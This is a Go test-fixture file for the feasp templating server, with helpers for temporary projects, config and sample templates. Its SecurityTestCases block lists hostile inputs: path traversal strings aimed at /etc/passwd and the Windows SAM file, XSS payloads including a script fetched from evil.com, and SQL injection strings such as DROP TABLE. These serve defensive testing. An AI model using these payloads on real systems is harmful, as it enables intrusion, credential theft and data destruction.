// Package testutils holds fixtures shared by feasp's tests.
package testutils

import (
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/conneroisu/feasp/internal/config"
)

// CreateTempProject creates an app root with empty templates/ and static/
// directories and returns its path.
func CreateTempProject(t *testing.T) string {
	t.Helper()
	root := t.TempDir()

	for _, dir := range []string{"templates", "static"} {
		require.NoError(t, os.MkdirAll(filepath.Join(root, dir), 0o755))
	}

	return root
}

// WriteTemplate writes content to templates/name below root and returns the
// file's path.
func WriteTemplate(t *testing.T, root, name, content string) string {
	t.Helper()
	return writeFile(t, filepath.Join(root, "templates", filepath.FromSlash(name)), []byte(content))
}

// WriteStatic writes data to static/name below root and returns the file's
// path.
func WriteStatic(t *testing.T, root, name string, data []byte) string {
	t.Helper()
	return writeFile(t, filepath.Join(root, "static", filepath.FromSlash(name)), data)
}

func writeFile(t *testing.T, path string, data []byte) string {
	t.Helper()
	require.NoError(t, os.MkdirAll(filepath.Dir(path), 0o755))
	require.NoError(t, os.WriteFile(path, data, 0o644))
	return path
}

// CreateTestConfig returns a development configuration serving root on a
// free loopback port with a short watcher debounce.
func CreateTestConfig(root string) *config.Config {
	cfg := config.Default()
	cfg.Server.Port = 0
	cfg.App.Root = root
	cfg.Development.Debounce = 20 * time.Millisecond
	cfg.Log.Level = "error"
	return cfg
}

// SampleTemplates are small templates exercising each tag kind.
var SampleTemplates = map[string]string{
	"plain.html":    `<p>No tags at all.</p>`,
	"variable.html": `<p>Hello {{ name }}</p>`,
	"loop.html":     `<ul>{% for item in items %}<li>{{ item }}</li>{% endfor %}</ul>`,
	"branch.html":   `{% if user %}Hi {{ user.name | title }}{% else %}Hi stranger{% endif %}`,
	"comment.html":  `a{# hidden #}b`,
}

// SecurityTestCases provides common hostile inputs.
var SecurityTestCases = struct {
	PathTraversal   []string
	ScriptInjection []string
	SQLInjection    []string
	BadIdentifiers  []string
}{
	PathTraversal: []string{
		"../../../etc/passwd",
		"..\\..\\..\\windows\\system32\\config\\sam",
		"....//....//....//etc/passwd",
		"..%2F..%2F..%2Fetc%2Fpasswd",
		"..%252F..%252F..%252Fetc%252Fpasswd",
		"/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
		"/./../../etc/passwd",
		"../../../../../etc/style.css",
	},
	ScriptInjection: []string{
		"<script>alert('xss')</script>",
		"<img src=x onerror=alert('xss')>",
		"<svg onload=alert('xss')>",
		"<iframe src=javascript:alert('xss')>",
		"<body onload=alert('xss')>",
		"<script src=//evil.com/malicious.js></script>",
	},
	SQLInjection: []string{
		"'; DROP TABLE users; --",
		"' OR '1'='1",
		"' UNION SELECT * FROM users --",
		"' OR 1=1 --",
		"admin'--",
		"' OR 'a'='a",
		"'; INSERT INTO users VALUES ('hacker', 'password'); --",
	},
	BadIdentifiers: []string{
		"",
		"1users",
		"users; DROP TABLE users",
		"users--",
		"na me",
		`"users"`,
		"users\x00",
		"users)",
	},
}

// WaitForFileChange waits for a file's modification time to pass
// originalModTime.
func WaitForFileChange(
	t *testing.T,
	filePath string,
	originalModTime time.Time,
	timeout time.Duration,
) {
	t.Helper()
	deadline := time.Now().Add(timeout)

	for time.Now().Before(deadline) {
		info, err := os.Stat(filePath)
		if err == nil && info.ModTime().After(originalModTime) {
			return
		}
		time.Sleep(10 * time.Millisecond)
	}

	t.Fatalf("File %s was not modified within %v", filePath, timeout)
}
